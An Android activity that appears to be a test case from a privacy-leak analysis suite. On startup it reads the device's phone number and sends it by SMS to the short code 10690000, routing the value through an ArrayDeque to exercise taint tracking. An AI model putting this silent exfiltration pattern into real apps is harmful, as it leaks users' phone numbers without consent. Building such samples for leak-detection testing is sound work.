package cn.privlens.suite.deque_ends;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayDeque;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        ArrayDeque<String> d = new ArrayDeque<>();
        d.addFirst("front");
        d.addLast(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number());
        SmsManager.getDefault().sendTextMessage("10690000", null, d.pollLast(), null, null);
    }
}
